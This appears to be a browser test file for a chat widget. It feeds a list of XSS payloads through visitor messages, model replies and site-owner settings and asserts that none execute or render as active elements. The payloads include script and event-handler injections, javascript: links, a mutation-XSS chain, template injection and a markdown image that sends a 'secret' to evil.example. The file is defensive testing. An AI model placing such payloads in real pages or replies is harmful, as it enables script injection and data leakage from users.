// Texts that want to be more than text.
import assert from "node:assert/strict";
import { answered, say } from "../stage.mjs";

const payloads = [
  "<img src=x onerror=hacked=1>", "<script>hacked=1</script>", "<svg/onload=hacked=1>", "<iframe srcdoc='<script>parent.hacked=1</script>'>",
  "[click](javascript:hacked=1)", "<a href=\"java&#10;script:hacked=1\">x</a>", "![x](https://evil.example/?q=secret)", "<style>*{display:none}</style>",
  "</textarea><script>hacked=1</script>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hacked=1&gt;\">", "{{constructor.constructor('hacked=1')()}}",
];

async function unharmed(page) {
  await page.waitForTimeout(150);
  assert.equal(await page.evaluate(() => window.hacked), undefined, "nothing ran");
  const found = await page.evaluate(() => [...document.querySelector("[data-innconnect]").shadowRoot.querySelectorAll("script, iframe, object, embed, style, img, math, [onerror], [onload], .log svg:not([aria-hidden]), a[href^='javascript' i]")].map((el) => el.outerHTML));
  assert.deepEqual(found, []);
}

export async function ofAVisitor(t) {
  await t.behind("/model", {});
  const page = await t.chat();
  await say(page, payloads.join(" "));
  await page.locator(".item.visitor").waitFor();
  await unharmed(page);
  assert.equal(await page.locator(".item.visitor .bubble").innerText(), payloads.join(" "), "it is shown as it was written");
  await page.reload();
  await page.locator(".item.visitor").waitFor();
  await unharmed(page);
}

export async function ofTheModel(t) {
  await t.behind("/model", { text: `Dogs are welcome [1]. ${payloads.join("\n\n")}`, seconds: 1 });
  const page = await t.chat();
  await say(page, "Can I bring my dog?");
  await page.locator(".bubble.rich").waitFor();
  await unharmed(page);
  await answered(page);
  await unharmed(page);
}

export async function ofTheSitesOwner(t) {
  await t.behind("/site", ["--title", payloads[0], "--welcome", payloads[1], "--suggestion", payloads[2]]);
  await t.behind("/site-file?flag=--texts", { placeholder: payloads[0], online: payloads[1] });
  await t.behind("/site-file?flag=--page-suggestions", [{ id: "x", url_pattern: "*", text: payloads[0], message: payloads[4], triggers: {} }]);
  const page = await t.open();
  await page.getByRole("button", { name: payloads[0] }).click();
  await page.locator(".item.visitor").waitFor();
  await unharmed(page);
  assert.equal(await page.getByRole("heading").last().innerText(), payloads[0]);
  await t.behind("/site", ["--title", "", "--welcome", "", "--suggestion", "Can I bring my dog?"]);
  await t.behind("/site-file?flag=--texts", {});
  await t.behind("/site-file?flag=--page-suggestions", []);
}
